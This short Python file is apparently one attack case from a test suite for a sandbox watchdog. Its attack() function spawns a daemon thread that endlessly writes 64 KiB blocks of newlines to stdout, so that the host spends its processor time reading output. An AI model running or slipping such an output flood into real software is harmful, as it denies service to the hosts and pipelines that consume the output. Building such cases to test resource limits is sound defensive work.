"""Print without end when nobody has called.

Attacks: the host's processor.
How: a thread that writes empty lines for as long as the instance lives.
Source: CWE-779; reading the watchdog, which drained whatever came.
Breach: the host spends more than a third of the time reading.
"""

import os
import threading

GROUP, PAUSE_S = "resources", 2.0


def attack(outside):
    def flood():
        while True:
            os.write(1, b"\n" * 65536)

    threading.Thread(target=flood, daemon=True).start()
